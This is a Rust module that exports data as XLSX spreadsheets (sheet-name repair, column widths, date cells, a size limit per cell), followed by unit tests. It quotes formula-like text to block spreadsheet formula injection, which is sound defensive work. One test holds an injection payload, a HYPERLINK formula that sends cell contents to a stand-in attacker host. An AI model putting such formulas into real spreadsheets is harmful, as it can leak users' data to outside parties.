//! Spreadsheets as XLSX (Office Open XML SpreadsheetML, ECMA-376 part 1 §18), written with `rust_xlsxwriter`:
//! a workbook of named sheets, each a heading row (bold, frozen) and rows of typed cells: text, number or
//! date (shown as JJ/MM/AAAA, so that spreadsheets sort and filter it as a date), columns as wide as their
//! content.

use passerelle_domain::text::formula_like;
use rust_xlsxwriter::{ExcelDateTime, Format, Workbook, Worksheet, XlsxError};
use time::Date;

/// One cell's value.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    Date(Date),
    Empty,
}

impl Cell {
    pub fn text(s: impl Into<String>) -> Self {
        Self::Text(s.into())
    }

    /// A date cell, or an empty one.
    pub fn date(d: Option<Date>) -> Self {
        d.map_or(Self::Empty, Self::Date)
    }

    /// The value as plain text (dates as AAAA-MM-JJ), for a CSV of the same rows.
    pub fn plain(&self) -> String {
        match self {
            Self::Text(t) => t.clone(),
            Self::Number(n) => n.to_string(),
            Self::Date(d) => d.to_string(),
            Self::Empty => String::new(),
        }
    }
}

/// A named sheet: its headings, then its rows.
#[derive(Debug, Clone, PartialEq)]
pub struct Sheet {
    pub name: String,
    pub headings: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl Sheet {
    pub fn new(name: &str, headings: &[&str]) -> Self {
        Self {
            name: name.to_owned(),
            headings: headings.iter().map(|h| (*h).to_owned()).collect(),
            rows: Vec::new(),
        }
    }

    pub fn row(&mut self, cells: Vec<Cell>) {
        self.rows.push(cells);
    }
}

/// Sheet names: at most 31 characters, none of `[ ] : * ? / \`, not empty, unique in the workbook
/// (ECMA-376 §18.2.19; Excel refuses the file otherwise). A name that breaks these rules is mended.
fn sheet_names(sheets: &[Sheet]) -> Vec<String> {
    let mut names: Vec<String> = Vec::new();
    for (i, s) in sheets.iter().enumerate() {
        let clean: String = s
            .name
            .chars()
            .map(|c| if "[]:*?/\\".contains(c) { '-' } else { c })
            .take(28)
            .collect();
        let clean = clean.trim().trim_matches('\'').to_owned();
        let mut name = if clean.is_empty() {
            format!("Feuille {}", i + 1)
        } else {
            clean
        };
        if names.iter().any(|n| n.to_lowercase() == name.to_lowercase()) {
            name = format!("{name} {}", i + 1);
        }
        names.push(name);
    }
    names
}

/// Width of a column in characters: its longest value, within reason.
fn widths(sheet: &Sheet) -> Vec<usize> {
    let count = sheet
        .rows
        .iter()
        .map(Vec::len)
        .chain([sheet.headings.len()])
        .max()
        .unwrap_or(0);
    (0..count)
        .map(|i| {
            let heading = sheet.headings.get(i).map_or(0, |h| h.chars().count());
            let longest = sheet
                .rows
                .iter()
                .filter_map(|r| r.get(i))
                .map(|c| match c {
                    Cell::Date(_) => 10,
                    c => c.plain().chars().count(),
                })
                .max()
                .unwrap_or(0);
            heading.max(longest).clamp(8, 60) + 2
        })
        .collect()
}

/// The cell formats of a workbook.
struct Formats {
    bold: Format,
    day: Format,
    /// Text with the « quote prefix »: shown as typed, never read as a formula (`text::formula_like`).
    quoted: Format,
}

/// A cell holds at most 32,767 characters (Excel's limit, which `rust_xlsxwriter` enforces): the rest is cut.
fn fit(text: &str) -> std::borrow::Cow<'_, str> {
    match text.char_indices().nth(32_767) {
        Some((end, _)) => text[..end].into(),
        None => text.into(),
    }
}

fn write_cell(sheet: &mut Worksheet, row: u32, col: u16, cell: &Cell, formats: &Formats) -> Result<(), XlsxError> {
    match cell {
        Cell::Text(t) if formula_like(t) => sheet.write_string_with_format(row, col, fit(t), &formats.quoted)?,
        Cell::Text(t) => sheet.write_string(row, col, fit(t))?,
        Cell::Number(n) if n.is_finite() => sheet.write_number(row, col, *n)?,
        Cell::Number(_) | Cell::Empty => sheet,
        // Spreadsheets count days from 1900 to 9999 (ECMA-376 §18.17.4.1): a date outside is kept as text.
        Cell::Date(d) => {
            match u16::try_from(d.year()).map(|y| ExcelDateTime::from_ymd(y, u8::from(d.month()), d.day())) {
                Ok(Ok(day)) => sheet.write_datetime_with_format(row, col, &day, &formats.day)?,
                _ => sheet.write_string(row, col, d.to_string())?,
            }
        }
    };
    Ok(())
}

fn worksheet(book: &mut Workbook, sheet: &Sheet, name: &str, formats: &Formats) -> Result<(), XlsxError> {
    let out = book.add_worksheet();
    out.set_name(name)?;
    out.set_freeze_panes(1, 0)?;
    for (col, width) in widths(sheet).into_iter().enumerate() {
        out.set_column_width(col as u16, width as f64)?;
    }
    for (col, heading) in sheet.headings.iter().enumerate() {
        out.write_string_with_format(0, col as u16, heading, &formats.bold)?;
    }
    for (row, cells) in sheet.rows.iter().enumerate() {
        for (col, cell) in cells.iter().enumerate() {
            write_cell(out, row as u32 + 1, col as u16, cell, formats)?;
        }
    }
    Ok(())
}

fn write(sheets: &[Sheet]) -> Result<Vec<u8>, XlsxError> {
    let formats = Formats {
        bold: Format::new().set_bold(),
        day: Format::new().set_num_format("dd/mm/yyyy"),
        quoted: Format::new().set_quote_prefix(),
    };
    let mut book = Workbook::new();
    for (sheet, name) in sheets.iter().zip(sheet_names(sheets)) {
        worksheet(&mut book, sheet, &name, &formats)?;
    }
    book.save_to_buffer()
}

/// The workbook of `sheets`, in their order. Every value the writer could refuse is mended beforehand (sheet
/// names, dates outside its range, sizes far below a sheet's limits): an error left is a bug, logged, and
/// the workbook left empty rather than a request ended by a panic.
pub fn workbook(sheets: &[Sheet]) -> Vec<u8> {
    write(sheets).unwrap_or_else(|e| {
        tracing::error!(error = %e, "classeur XLSX non écrit");
        Vec::new()
    })
}

/// The media type of an XLSX file.
pub const CONTENT_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;
    use time::macros::date;

    /// The part `name` of the XLSX package `bytes`.
    fn part(bytes: &[u8], name: &str) -> String {
        let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut text = String::new();
        archive.by_name(name).unwrap().read_to_string(&mut text).unwrap();
        text
    }

    /// Finding 7 of « Integrity and privacy »: a text a spreadsheet would read as a formula gets the quote
    /// prefix style; other texts and numbers keep theirs.
    #[test]
    fn formula_like_text_is_quoted() {
        let mut sheet = Sheet::new("Feuille", &["a"]);
        sheet.row(vec![
            Cell::text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")"),
            Cell::text("Agent"),
            Cell::Number(-2.0),
        ]);
        let bytes = workbook(&[sheet]);
        let xml = part(&bytes, "xl/worksheets/sheet1.xml");
        let style = |cell: &str| {
            let at = xml.find(&format!("<c r=\"{cell}\"")).unwrap();
            let tag = &xml[at..at + xml[at..].find('>').unwrap()];
            tag.split(" s=\"")
                .nth(1)
                .map(|s| s[..s.find('"').unwrap()].parse::<usize>().unwrap())
        };
        let quoted = style("A2").expect("the formula-like text has a style");
        assert_eq!((style("B2"), style("C2")), (None, None), "{xml}");
        let styles = part(&bytes, "xl/styles.xml");
        let xfs = styles.split("<cellXfs").nth(1).unwrap();
        let xf = xfs.split("<xf ").nth(quoted + 1).unwrap();
        assert!(xf.contains("quotePrefix=\"1\""), "{xf}");
    }

    #[test]
    fn a_text_beyond_a_cell_is_cut_not_refused() {
        let mut sheet = Sheet::new("Long", &["texte"]);
        sheet.row(vec![Cell::text("é".repeat(40_000))]);
        let xml = part(&workbook(&[sheet]), "xl/sharedStrings.xml");
        assert_eq!(xml.matches('é').count(), 32_767);
    }

    #[test]
    fn dates_outside_the_spreadsheet_range_stay_as_text() {
        let mut sheet = Sheet::new("Dates", &["le"]);
        sheet.row(vec![Cell::Date(date!(1850 - 01 - 01))]);
        let xml = part(&workbook(&[sheet]), "xl/sharedStrings.xml");
        assert!(xml.contains("1850-01-01"), "{xml}");
    }

    #[test]
    fn sheet_names_are_mended() {
        let sheets = [
            Sheet::new("Conventions", &[]),
            Sheet::new("conventions", &[]),
            Sheet::new("a/b:c", &[]),
            Sheet::new("  ", &[]),
            Sheet::new(&"x".repeat(40), &[]),
        ];
        let names = sheet_names(&sheets);
        assert_eq!(names[..4], ["Conventions", "conventions 2", "a-b-c", "Feuille 4"]);
        assert!(names[4].chars().count() <= 31);
    }
}
